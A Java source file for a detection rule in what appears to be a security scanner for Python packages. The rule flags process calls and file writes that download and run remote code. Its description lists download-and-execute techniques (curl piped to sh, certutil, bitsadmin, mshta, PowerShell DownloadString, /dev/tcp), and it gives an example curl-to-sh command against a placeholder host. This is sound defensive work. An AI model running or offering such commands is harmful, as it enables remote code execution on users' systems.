package dev.kingsnake.rules.process;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.Location;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Const;
import dev.kingsnake.spi.facts.Commands;
import dev.kingsnake.spi.facts.DataFlow;
import dev.kingsnake.spi.python.Expr;

import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** A shell command that downloads and runs something (curl|sh, certutil, bitsadmin, mshta...). */
public final class DownloadAndRunCommandRule implements PythonFileRule {
    static final RuleInfo INFO = new RuleInfo("KS-PROCESS-DOWNLOAD-EXEC",
            "Starts a command that downloads and runs a program or script (curl|sh, wget -O- | bash, "
                    + "certutil -urlcache, bitsadmin /transfer, mshta/regsvr32/rundll32 with URLs, "
                    + "PowerShell DownloadString, /dev/tcp)",
            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.PROCESS, Tags.DOWNLOAD, Tags.STRONG),
            "os.system('curl -s https://example.invalid/i.sh | sh')",
            "Installer scripts of developer tools sometimes pipe curl into sh; inside a Python package "
                    + "this is rare. Matches only the command text that is really passed to a process call "
                    + "(constant-folded, or rebuilt from its literal pieces). Commands whose text comes from a "
                    + "network response are HIGH/MEDIUM.");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        DataFlow facts = DataFlow.of(file);
        for (Expr.Call c : file.calls()) {
            Commands.of(facts, c).ifPresent(cmd -> {
                String m = cmd.find(Commands.DOWNLOAD_EXEC);
                if (m != null) {
                    sink.report(Location.of(file, c), cmd.sink() + "() downloads and runs: " + m, cmd.evidence());
                } else if (cmd.taint().contains(DataFlow.Taint.FETCHED) && !cmd.benign()) {
                    // fetched from a URL; values from a socket the program holds (its own port, a peer's reply)
                    // are the remote-command rule's to judge
                    sink.report(file, c, cmd.sink() + "() runs a command or program fetched from the "
                            + "network", Severity.HIGH, Confidence.MEDIUM);
                }
            });
            writtenDownloadAndRun(file, c).ifPresent(m -> sink.report(file, c,
                    "writes a command that downloads and runs (" + m + ") into a file: a script or start-up file "
                            + "that runs it later", Severity.HIGH, Confidence.MEDIUM));
        }
    }

    /** The download-and-run pattern in constant text handed to {@code write}/{@code writelines}. */
    private static Optional<String> writtenDownloadAndRun(PythonFile file, Expr.Call c) {
        if (!(c.callee() instanceof Expr.Attribute a) || !("write".equals(a.attr()) || "writelines".equals(a.attr()))
                || c.args().isEmpty()) {
            return Optional.empty();
        }
        Optional<Const> text = file.constant(c.args().get(0)).filter(Const::isStringLike);
        if (text.isEmpty()) {
            return Optional.empty();
        }
        for (Pattern p : Commands.DOWNLOAD_EXEC) {
            Matcher m = p.matcher(text.get().asText());
            if (m.find()) {
                String hit = m.group();
                return Optional.of(hit.length() > 80 ? hit.substring(0, 77) + "..." : hit);
            }
        }
        return Optional.empty();
    }
}
